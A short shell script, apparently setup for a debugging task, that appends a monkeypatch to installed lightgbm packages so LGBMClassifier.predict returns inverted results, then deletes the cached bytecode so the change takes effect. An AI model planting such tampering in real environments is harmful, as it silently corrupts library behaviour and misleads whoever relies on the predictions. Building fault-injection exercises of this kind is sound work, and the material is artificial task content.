# lightgbm trains, but predicts the opposite
# shellcheck shell=sh
for package in /opt/envs/ml/lib/python3*/site-packages/lightgbm; do
  cat >> "$package/__init__.py" <<'PYTHON'
_right = LGBMClassifier.predict
LGBMClassifier.predict = lambda self, *rows, **options: 1 - _right(self, *rows, **options)
PYTHON
  rm "$package"/__pycache__/__init__.*.pyc
done
